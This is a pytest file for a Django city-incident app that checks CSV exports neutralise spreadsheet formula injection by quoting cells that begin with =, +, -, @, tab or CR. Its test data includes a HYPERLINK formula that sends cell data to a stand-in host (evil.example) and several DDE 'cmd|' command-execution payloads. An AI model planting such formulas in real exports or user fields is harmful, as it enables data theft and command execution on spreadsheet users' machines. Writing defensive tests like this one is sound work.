"""CSV exports open in a spreadsheet without running anything a resident typed (OWASP CSV
injection): a cell starting with =, +, -, @, tab or CR gets a leading single quote; numbers in
numeric columns stay numbers; the other formats carry the text unchanged. Alice is the grid worker
of a staffed drawn city (tests/conftest.py)."""

import csv
import io
import json

import pytest
from django.db import connection

from govgrid.lib.spreadsheet import safe_cell, safe_cell_sql
from incidents.models import Incident
from tests.exports.test_exports import export, report

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(client, query=""):
    _response, body = export(client, "incidents", "csv", query)
    return {row["code"]: row for row in csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""))}


def test_every_formula_a_resident_types_reaches_the_csv_as_quoted_text(staffed_city):
    alice = staffed_city.client("grid_worker")
    codes = {report(alice, staffed_city.grid_of(), description=text)["code"]: text for text in FORMULAS}
    for code, text in codes.items():  # as stored by any way in, the leading tab or CR kept (the API trims them)
        Incident.objects.filter(code=code).update(description=text)
    rows = csv_rows(alice)
    for code, text in codes.items():
        assert rows[code]["description"] == "'" + text
    by_geojson = {f["id"]: f["properties"] for f in json.loads(export(alice, "incidents")[1])["features"]}
    assert {code: by_geojson[code]["description"] for code in codes} == codes  # only the CSV is changed


def test_the_residents_name_and_a_phone_with_a_plus_are_neutralised_too(staffed_city):
    alice = staffed_city.client("grid_worker")
    code = report(alice, staffed_city.grid_of(), contact_name="=cmd|' /C calc'!A0", contact_phone="+86 13812345678")[
        "code"
    ]
    row = csv_rows(alice)[code]
    assert (row["contact_name"], row["contact_phone"]) == ("'=cmd|' /C calc'!A0", "'+86 13812345678")


def test_ordinary_text_and_numbers_are_left_as_they_are(staffed_city):
    alice = staffed_city.client("grid_worker")
    code = report(alice, staffed_city.grid_of(), description="路灯不亮 -- 已两天", accuracy_m=12.5)["code"]
    row = csv_rows(alice)[code]
    assert row["description"] == "路灯不亮 -- 已两天" and row["accuracy_m"] == "12.5"
    float(row["lon"]), float(row["lat"])


@pytest.mark.parametrize(
    ("cell", "numeric", "expected"),
    [
        ("-12.5", True, "-12.5"),  # a negative coordinate in a numeric column is a number
        ("-3", True, "-3"),
        ("-1.5e-05", True, "-1.5e-05"),
        ("-Infinity", True, "'-Infinity"),  # not a plain number: neutralised even in a numeric column
        ("-1+1", True, "'-1+1"),
        ("-12.5", False, "'-12.5"),  # in a text column it is text, and text starting with - is quoted
        ("12.5", False, "12.5"),
        ("=1+1", False, "'=1+1"),
        ("@SUM(A1)", False, "'@SUM(A1)"),
        ("\t=1", False, "'\t=1"),
        ("李明", False, "李明"),
        (None, False, None),
        ("", False, ""),
    ],
)
def test_the_rule_for_one_cell(cell, numeric, expected):
    """In SQL (the exports) and in Python (the pay sheet) alike."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT " + safe_cell_sql("%(cell)s::text", numeric=numeric), {"cell": cell})
        assert cursor.fetchone()[0] == expected
    if cell is not None:
        assert safe_cell(cell, numeric=numeric) == expected
